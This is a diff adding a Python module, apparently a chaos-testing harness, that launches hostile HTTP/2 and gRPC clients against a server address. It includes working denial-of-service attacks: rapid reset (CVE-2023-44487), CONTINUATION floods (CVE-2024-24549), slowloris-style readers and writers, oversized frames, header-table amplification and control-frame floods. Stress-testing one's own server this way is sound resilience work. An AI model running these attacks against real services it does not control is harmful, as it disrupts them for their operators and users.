@@ -1,0 +1,432 @@
+"""Clients that mean harm, each for as long as it is told: `python -m chaos.hostile ATTACK ADDRESS HOW SEED SECONDS`,
+where HOW is `plain` or `tls`.
+
+A process of its own, so that it takes nothing from the client beside it but what it takes from the server. It sends no
+more than a line of 1 Gbit/s carries. At the end it prints what it did, as JSON: how many connections it made, how many
+of them the server ended, and how often it did its worst.
+"""
+
+import json
+import random
+import resource
+import socket
+import ssl
+import struct
+import sys
+import threading
+import time
+from collections.abc import Callable
+from typing import Final
+
+from bench.hpack import request_blocks
+from bench.http2 import (
+    ACK,
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    INITIAL_WINDOW_SIZE,
+    PING,
+    PREFACE,
+    RST_STREAM,
+    SETTINGS,
+    WINDOW_UPDATE,
+)
+
+CAN_USE: Final = "/canuse.v1.EntitlementService/CanUse"
+LIST_FEATURES: Final = "/canuse.v1.CatalogService/ListFeatures"
+REQUEST: Final = b"\x0a\x03124\x12\x04none"
+"""A check of a feature that there is not."""
+PAGE: Final = b"\x08\xe8\x07"
+"""A page of 1000 features."""
+CANCEL: Final = 8
+LARGEST: Final = (1 << 24) - 1
+IDLE: Final = 1_000
+LINE_BYTES: Final = 125_000_000
+"""How much may be sent in a second."""
+PATIENCE_SECONDS: Final = 5.0
+PAUSE_SECONDS: Final = 0.05
+LARGEST_WRITE: Final = 1 << 18
+_FRAME: Final = struct.Struct(">BHBBI")
+_SETTING: Final = struct.Struct(">HI")
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"", *, length: int | None = None) -> bytes:
+    """Return a frame; `length` is what it says about its payload, where that is a lie."""
+    size = len(payload) if length is None else length
+    return _FRAME.pack(size >> 16, size & 0xFFFF, kind, flags, stream) + payload
+
+
+def block(path: str, *more: tuple[bytes, bytes]) -> bytes:
+    """Return the headers of a call."""
+    headers = [(b":path", path.encode()), (b":authority", b"x"), (b"content-type", b"application/grpc")]
+    return request_blocks([*headers, (b"te", b"trailers"), *more])[0]
+
+
+def message(payload: bytes) -> bytes:
+    """Return a message as gRPC sends it."""
+    return b"\0" + len(payload).to_bytes(4, "big") + payload
+
+
+def call(stream: int, path: str, payload: bytes) -> bytes:
+    """Return the frames of a call."""
+    return frame(HEADERS, END_HEADERS, stream, block(path)) + frame(DATA, END_STREAM, stream, message(payload))
+
+
+class Connection:
+    """A connection of whose answers nothing is read unless it is said. What the server does to it is counted."""
+
+    def __init__(self, attack: "Attack", *, greet: bool = True, window: int = 65_535, receive_bytes: int = 0) -> None:
+        self._attack = attack
+        self.socket = socket.socket()
+        if receive_bytes:
+            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
+        self.socket.settimeout(PATIENCE_SECONDS)
+        self.socket.connect(attack.address)
+        if attack.tls:
+            self.socket = attack.tls.wrap_socket(self.socket)
+        attack.add("connections")
+        self.is_open = True
+        if greet:
+            self.send(PREFACE + frame(SETTINGS, 0, 0, _SETTING.pack(INITIAL_WINDOW_SIZE, window)))
+
+    def send(self, data: bytes) -> bool:
+        """Send; return whether the connection stands. Where the server does not read, wait until the time is over."""
+        view = memoryview(data)
+        while self.is_open and view and not self._attack.is_over:
+            try:
+                sent = self.socket.send(view[:LARGEST_WRITE])
+                self._attack.pace(sent)
+                view = view[sent:]
+            except TimeoutError:
+                continue
+            except OSError:
+                self._ended()
+        return self.is_open
+
+    def read(self, seconds: float = PATIENCE_SECONDS) -> bytes:
+        """Read what is there, waiting for it; nothing where the server has ended the connection or says nothing."""
+        self.socket.settimeout(seconds)
+        try:
+            data = self.socket.recv(1 << 16)
+        except TimeoutError:
+            return b""
+        except OSError:
+            data = b""
+        if not data:
+            self._ended()
+        return data
+
+    def drain(self) -> None:
+        """Read all that is there."""
+        self.socket.setblocking(False)
+        try:
+            while self.is_open:
+                if not self.socket.recv(1 << 16):
+                    self._ended()
+        except (BlockingIOError, ssl.SSLWantReadError):
+            self.socket.settimeout(PATIENCE_SECONDS)
+        except OSError:
+            self._ended()
+
+    def is_ended(self, seconds: float = PATIENCE_SECONDS) -> bool:
+        """Wait for the server to end the connection; return whether it has."""
+        until = time.monotonic() + seconds
+        while self.is_open and (left := until - time.monotonic()) > 0 and not self._attack.is_over:
+            self.read(left)
+        return not self.is_open
+
+    def _ended(self) -> None:
+        if self.is_open:
+            self.is_open = False
+            self._attack.add("ended")
+        self.socket.close()
+
+    def close(self) -> None:
+        """Close it."""
+        self.socket.close()
+
+
+class Attack:
+    """One attack: where to, until when, by what chance, and what came of it."""
+
+    def __init__(self, address: str, how: str, seed: str, seconds: float) -> None:
+        host, _, port = address.rpartition(":")
+        self.address = (host, int(port))
+        self.tls = _tls() if how == "tls" else None
+        self.chance = random.Random(seed)
+        self.counts: dict[str, int] = {"connections": 0, "ended": 0}
+        self._start = time.monotonic()
+        self._until = self._start + seconds
+        self._sent = 0
+        self._lock = threading.Lock()
+
+    @property
+    def is_over(self) -> bool:
+        """Whether the time is over."""
+        return time.monotonic() > self._until
+
+    def add(self, what: str, number: int = 1) -> None:
+        """Count."""
+        with self._lock:
+            self.counts[what] = self.counts.get(what, 0) + number
+
+    def pace(self, sent: int) -> None:
+        """Wait until the line could have carried what was sent."""
+        with self._lock:
+            self._sent += sent
+            ahead = self._sent / LINE_BYTES - (time.monotonic() - self._start)
+        if ahead > 0:
+            time.sleep(ahead)
+
+    def wait(self) -> None:
+        """Do nothing until the time is over."""
+        time.sleep(max(0.0, self._until - time.monotonic()))
+
+    def at_once(self, number: int, work: Callable[[], None]) -> None:
+        """Do work in so many threads, again and again until the time is over."""
+
+        def again() -> None:
+            while not self.is_over:
+                try:
+                    work()
+                except OSError:
+                    self.add("refused")
+                    time.sleep(PAUSE_SECONDS)
+
+        threads = [threading.Thread(target=again) for _ in range(number)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+
+
+def _tls() -> ssl.SSLContext:
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    return context
+
+
+def idle(attack: Attack) -> None:
+    """1,000 connections that say nothing, or only who they are."""
+    opened = [Connection(attack, greet=bool(number % 2)) for number in range(IDLE)]
+    attack.wait()
+    for connection in opened:
+        connection.drain()
+        connection.close()
+
+
+def slow_readers(attack: Attack) -> None:
+    """Calls with large answers that nobody reads: no window for them, or a window and a full socket."""
+    calls = b"".join(call(stream, LIST_FEATURES, PAGE) for stream in range(1, 21, 2))
+    opened = [Connection(attack, window=number % 2 * 65_535, receive_bytes=4096) for number in range(40)]
+    for connection in opened:
+        if connection.send(calls):
+            attack.add("asked", 10)
+    attack.wait()
+    for connection in opened:
+        connection.close()
+
+
+def slow_writers(attack: Attack) -> None:
+    """200 connections on which calls come a byte a second: in the preface, in the headers, in the message."""
+    whole = PREFACE + frame(SETTINGS, 0, 0) + call(1, CAN_USE, REQUEST)
+    opened = [Connection(attack, greet=False) for _ in range(200)]
+    sent = [attack.chance.randrange(len(whole)) for _ in opened]
+    for connection, at in zip(opened, sent, strict=True):
+        connection.send(whole[:at])
+    while not attack.is_over:
+        for number, connection in enumerate(opened):
+            if connection.is_open and sent[number] < len(whole):
+                connection.send(whole[sent[number] : sent[number] + 1])
+                sent[number] += 1
+                attack.add("bytes")
+        time.sleep(1)
+    for connection in opened:
+        connection.drain()
+        connection.close()
+
+
+def resets(attack: Attack) -> None:
+    """Calls that are taken back as soon as they are made (rapid reset, CVE-2023-44487)."""
+
+    def work() -> None:
+        connection, stream, path = Connection(attack), 1, attack.chance.choice((CAN_USE, LIST_FEATURES))
+        while connection.is_open and not attack.is_over and stream < 1 << 30:
+            out = []
+            for number in range(stream, stream + 200, 2):
+                out += [call(number, path, REQUEST), frame(RST_STREAM, 0, number, CANCEL.to_bytes(4, "big"))]
+            if connection.send(b"".join(out)):
+                attack.add("resets", 100)
+            connection.drain()
+            stream += 200
+        connection.close()
+
+    attack.at_once(2, work)
+
+
+def garbage(attack: Attack) -> None:
+    """Random bytes: at once, after the preface, and as the payload of frames of all kinds."""
+
+    def work() -> None:
+        chance = attack.chance
+        kind = chance.randrange(3)
+        connection = Connection(attack, greet=kind > 0)
+        for _ in range(8):
+            data = chance.randbytes(chance.randrange(1, 4000))
+            if kind == 2:
+                data = frame(chance.randrange(12), chance.randrange(256), chance.randrange(4), data)
+            connection.send(data)
+            attack.add("pieces")
+        connection.drain()
+        connection.close()
+
+    attack.at_once(2, work)
+
+
+def http_1(attack: Attack) -> None:
+    """Requests of HTTP/1: as browsers, scanners and misled proxies send them."""
+    requests = [
+        b"GET / HTTP/1.1\r\nhost: x\r\n\r\n",
+        b"POST /canuse HTTP/1.0\r\ncontent-length: 99999999\r\n\r\n" + b"x" * 9999,
+        b"PRI * HTTP/1.1\r\n\r\nSM\r\n\r\n",
+        b"GET / HTTP/1.1\r\n" + b"x-y: z\r\n" * 20_000,
+    ]
+
+    def work() -> None:
+        connection = Connection(attack, greet=False)
+        connection.send(attack.chance.choice(requests))
+        connection.is_ended(1)
+        connection.close()
+        attack.add("requests")
+
+    attack.at_once(2, work)
+
+
+def large_frames(attack: Attack) -> None:
+    """Frames of 16 MiB, which nobody has allowed, and messages that say to have 4 GiB, in frames without end."""
+
+    def too_long() -> None:
+        connection = Connection(attack)
+        kind = attack.chance.choice((DATA, HEADERS, SETTINGS, PING, CONTINUATION, 99))
+        connection.send(frame(HEADERS, END_HEADERS, 1, block(CAN_USE)))
+        connection.send(frame(kind, 0, 1, b"x" * 16_384, length=LARGEST))
+        for _ in range(64):
+            if not connection.send(b"x" * (1 << 18)):
+                break
+        attack.add("frames")
+        connection.drain()
+        connection.close()
+
+    def too_large() -> None:
+        connection = Connection(attack)
+        path = attack.chance.choice((CAN_USE, LIST_FEATURES))
+        connection.send(frame(HEADERS, END_HEADERS, 1, block(path)) + frame(DATA, 0, 1, b"\0\xff\xff\xff\xff"))
+        piece = frame(DATA, 0, 1, b"x" * 16_384) * 16
+        for _ in range(256):
+            if not connection.send(piece) or attack.is_over:
+                break
+            attack.add("kib", 256)
+            connection.drain()
+        connection.close()
+
+    def work() -> None:
+        attack.chance.choice((too_long, too_large))()
+
+    attack.at_once(2, work)
+
+
+def large_metadata(attack: Attack) -> None:
+    """Calls with 1 MiB of metadata, sent as such, or as one entry of the table that is named thousands of times."""
+
+    def work() -> None:
+        connection = Connection(attack)
+        stream = 1
+        while connection.is_open and not attack.is_over and stream < 100:
+            start = block(CAN_USE, (b"x-large", b"y" * 3_900))
+            rest = b"\xbe" * 16_000 if attack.chance.random() < 0.5 else b"\x00\x03x-y\x7f\x81\x78" + b"z" * 15_488
+            connection.send(frame(HEADERS, 0, stream, start))
+            for _ in range(64 if rest[0] == 0 else 1):
+                connection.send(frame(CONTINUATION, 0, stream, rest))
+            connection.send(frame(CONTINUATION, END_HEADERS, stream, b""))
+            connection.send(frame(DATA, END_STREAM, stream, message(REQUEST)))
+            attack.add("asked")
+            connection.drain()
+            stream += 2
+        connection.close()
+
+    attack.at_once(2, work)
+
+
+def continuations(attack: Attack) -> None:
+    """Headers that never end (CVE-2024-24549 and others)."""
+
+    def work() -> None:
+        connection = Connection(attack)
+        connection.send(frame(HEADERS, 0, 1, block(CAN_USE)))
+        pieces = frame(CONTINUATION, 0, 1, b"\x00\x03x-y\x01z" * 100) * 64
+        while connection.is_open and not attack.is_over:
+            if connection.send(pieces):
+                attack.add("frames", 64)
+            connection.drain()
+        connection.close()
+
+    attack.at_once(2, work)
+
+
+def control_floods(attack: Attack) -> None:
+    """Settings, pings, empty frames and windows without end, whose answers nobody reads."""
+    floods = [
+        frame(PING, 0, 0, b"12345678") * 500,
+        frame(SETTINGS, 0, 0, _SETTING.pack(INITIAL_WINDOW_SIZE, 65_535)) * 500,
+        frame(SETTINGS, ACK, 0) * 500,
+        frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 500,
+        frame(RST_STREAM, 0, 1, CANCEL.to_bytes(4, "big")) * 500,
+        frame(DATA, 0, 1, b"") * 500,
+        frame(2, 0, 1, b"\0\0\0\0\1") * 500,
+    ]
+
+    def work() -> None:
+        connection = Connection(attack, receive_bytes=4096)
+        connection.send(frame(HEADERS, END_HEADERS, 1, block(CAN_USE)))
+        flood = attack.chance.choice(floods)
+        for _ in range(2_000):
+            if not connection.send(flood) or attack.is_over:
+                break
+            attack.add("frames", 500)
+        connection.close()
+
+    attack.at_once(2, work)
+
+
+ATTACKS: Final[dict[str, Callable[[Attack], None]]] = {
+    attack.__name__.replace("_", "-"): attack
+    for attack in (
+        idle,
+        slow_readers,
+        slow_writers,
+        resets,
+        garbage,
+        http_1,
+        large_frames,
+        large_metadata,
+        continuations,
+        control_floods,
+    )
+}
+
+
+def main() -> None:
+    """Do what the command line says."""
+    name, address, how, seed, seconds = sys.argv[1:]
+    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+    attack = Attack(address, how, seed, float(seconds))
+    ATTACKS[name](attack)
+    print(json.dumps(attack.counts))
+
+
+if __name__ == "__main__":
+    main()
